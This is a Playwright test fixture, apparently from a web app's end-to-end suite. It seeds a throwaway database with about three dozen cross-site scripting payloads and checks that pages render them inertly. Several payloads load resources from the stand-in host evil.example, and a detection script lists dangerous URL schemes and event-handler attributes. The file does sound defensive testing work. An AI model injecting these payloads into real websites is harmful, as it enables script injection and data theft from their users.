import { randomBytes } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test as base, expect, type Page } from '@playwright/test';
import pg from 'pg';
import { endServer, startServer } from '../server/testing/server-process.ts';

export { expect };

/** Each would call `hit` where it were taken for more than text. */
const PAYLOADS = [
  '<script>hit()</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=hit()>',
  '<img src=//evil.example/x.png>',
  '"><svg/onload=hit()>',
  `'"><iframe srcdoc="<script>parent.hit()</script>"></iframe>`,
  '<iframe src=javascript:parent.hit()></iframe>',
  '<a href="javascript:hit()">x</a>',
  '<a href="java\tscript:hit()">x</a>',
  '<a href=" &#106;avascript:hit()">x</a>',
  '<a href="data:text/html,<script>hit()</script>">x</a>',
  '<a href="vbscript:hit()">x</a>',
  '<style>@import "//evil.example/x.css";*{background:url(//evil.example/x)}</style>',
  '<p style="background:url(//evil.example/x);position:fixed;inset:0">x</p>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=//evil.example><input autofocus onfocus=hit()><button formaction=javascript:hit()>x</button></form>',
  '<details open ontoggle=hit()>x</details>',
  '<video><source onerror=hit()></video>',
  '<object data=javascript:hit()></object><embed src=javascript:hit()>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=hit()>">',
  '<svg><style><img src=x onerror=hit()></style></svg>',
  '<svg><a xlink:href=javascript:hit()><text>x</text></a><script>hit()</script></svg>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  '<template shadowrootmode=open><img src=x onerror=hit()></template>',
  '<select><style></select><img src=x onerror=hit()></style>',
  '<xmp><p title="</xmp><img src=x onerror=hit()>"></xmp>',
  '</title></textarea></script></style><img src=x onerror=hit()>',
  '--><img src=x onerror=hit()><!--',
  '<![CDATA[><img src=x onerror=hit()>]]>',
  '<h1 onclick=hit() onpointerenter=hit()>x</h1>',
  '<div id=root name=config><img name=cookie></div>',
  "');hit();('",
  '`;hit();`',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a text that a template engine would run
  '${hit()}{{constructor.constructor("hit()")()}}#{hit()}',
];
export const HOSTILE = PAYLOADS.join(' ');
/** The same where no white space may stand. */
const HOSTILE_SITE = '"><script>hit()</script><img/src=x/onerror=hit()>\'onmouseover=hit()//javascript:hit()';

export type Hostile = { siteUrl: string; officeUrl: string; db: pg.Pool };

type Fixtures = { watched: { page: Page; expectHarmless(): Promise<void> } };

// These two run in the page, whose types are not those of the tests.
export const TELL_VIOLATIONS = `document.addEventListener('securitypolicyviolation',
  ({ effectiveDirective, blockedURI, sample }) => violated([effectiveDirective, blockedURI, sample].join(' ')))`;

/** What an attack would leave in the page, even where the policy keeps it from running. */
const FIND_DANGERS = `(() => {
  const dangers = [];
  const isOwn = (address) => new URL(address, location.href).origin === location.origin;
  const addresses = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc', 'ping'];
  for (const element of document.querySelectorAll('*')) {
    const { localName, attributes, outerHTML } = element;
    const isForeign =
      ['iframe', 'object', 'embed', 'base', 'frame', 'applet'].includes(localName) ||
      (localName === 'script' && !isOwn(element.src)) ||
      (localName === 'link' && !isOwn(element.href));
    const isLive = [...attributes].some(({ name, value }) =>
      name.startsWith('on') ||
      // as a browser reads a scheme: white space within it counts for nothing
      (addresses.includes(name) && /^(?:javascript|vbscript|data:text)/i.test(value.replace(/\\s/g, ''))));
    if (isForeign || isLive) dangers.push(outerHTML.slice(0, 200));
  }
  return dangers;
})()`;

/** A server of its own, every text of whose database is an attack; and a page that tells when one succeeds. */
export const test = base.extend<Fixtures, { hostile: Hostile }>({
  hostile: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures that are asked for here
    async ({}, use) => {
      const cluster = new URL(process.env.E2E_DATABASE_URL ?? '');
      const name = `hostile_${randomBytes(6).toString('hex')}`;
      const maintenance = new pg.Pool({ connectionString: cluster.href, max: 1 });
      await maintenance.query(`CREATE DATABASE ${name} TEMPLATE template0`);
      const dataDir = await mkdtemp(join(tmpdir(), 'parite-hostile-'));
      const url = new URL(cluster.href);
      url.pathname = name;
      const server = await startServer({
        DATABASE_URL: url.href,
        DATA_DIR: dataDir,
        DEMO: 'on',
        SECRET: 'only-for-the-browser-tests-0123456789',
        RATE_LIMIT: '100000',
        SIGN_UP_LIMIT: '100000',
      });
      const db = new pg.Pool({ connectionString: url.href, max: 2 });
      await fill(db);
      await use({
        siteUrl: server.url,
        officeUrl: server.url.replace('localhost', 'backoffice.localhost'),
        db,
      });
      await db.end();
      await endServer(server.child);
      await maintenance.query(`DROP DATABASE ${name} WITH (FORCE)`);
      await maintenance.end();
      await rm(dataDir, { recursive: true, force: true });
    },
    { scope: 'worker', timeout: 90_000 },
  ],
  watched: async ({ page }, use) => {
    const done: string[] = [];
    await page.exposeFunction('hit', () => done.push('a script ran'));
    await page.exposeFunction('violated', (what: string) => done.push(`the policy refused ${what}`));
    await page.addInitScript({ content: TELL_VIOLATIONS });
    page.on('dialog', (dialog) => {
      done.push(`a dialog opened: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('pageerror', (error) => done.push(String(error)));
    page.on('console', (message) => {
      // pictures with the names of attacks are not there, and their links never worked
      if (message.type() === 'error' && !/status of (40[134]|410)/.test(message.text()))
        done.push(message.text());
    });
    page.on('request', (request) => {
      if (new URL(request.url()).hostname.endsWith('evil.example')) done.push(`asked ${request.url()}`);
    });
    const expectHarmless = async () => {
      expect(await page.evaluate(FIND_DANGERS)).toEqual([]);
      expect(done).toEqual([]);
    };
    await use({ page, expectHarmless });
    await expectHarmless();
  },
});

/** Every text that a person can store, and those that only an import, a feed or a migration writes. */
async function fill(db: pg.Pool): Promise<void> {
  const statements: [sql: string, values: unknown[]][] = [
    [
      'UPDATE companies SET name = id || $1, phone = $1, email = $1, site = $2 || id',
      [HOSTILE, `https://evil.example/${HOSTILE_SITE}`],
    ],
    ['UPDATE users SET name = $1, surname = $1, phone = $1, img = $1, role = $1', [HOSTILE]],
    [`UPDATE users SET mail = $1 || id WHERE mail NOT LIKE '%@parite.example'`, [HOSTILE]],
    [`UPDATE currencies SET label = $1 || code WHERE code IN ('USD', 'GBP', 'CHF')`, [HOSTILE]],
    ['UPDATE mid_rates SET source = $1', [HOSTILE]],
    ['UPDATE scopes SET label = $1 || scope', [HOSTILE]],
    [
      `UPDATE articles SET "group" = $1 || "group", topic = $1, title = $1, description = $1, descriptions = ARRAY[$1],
         image = $1, image_alt = $1, content = $2`,
      [HOSTILE, `<h2>${HOSTILE}</h2>${PAYLOADS.map((payload) => `<p>${payload}</p>`).join('')}`],
    ],
    [
      `INSERT INTO audit_entries (at, user_id, action, company_id, subject_user_id, changes)
       SELECT now(), u.id, action, c.id, u.id, jsonb_build_object($1::text, jsonb_build_array($1, $1), 'name', jsonb_build_array($1, $1),
         'scopes', jsonb_build_array(jsonb_build_array($1), jsonb_build_array($1)))
       FROM (SELECT id FROM users ORDER BY id LIMIT 1) u, (SELECT id FROM companies ORDER BY id LIMIT 1) c,
         unnest(ARRAY['company.edited', 'user.edited', 'user.unknown']) AS action`,
      [HOSTILE],
    ],
    [
      `INSERT INTO rates_feed (checked_at, succeeded_at, day, source, error, accepted, refusals)
       VALUES (now(), now(), current_date, $1, $1, 1,
         jsonb_build_array(jsonb_build_object('code', $1::text, 'rate', $1::text, 'held', $1::text, 'reason', 'jump')))
       ON CONFLICT (is_only) DO UPDATE SET source = excluded.source, error = excluded.error, refusals = excluded.refusals`,
      [HOSTILE],
    ],
  ];
  for (const [sql, values] of statements) await db.query(sql, values);
}
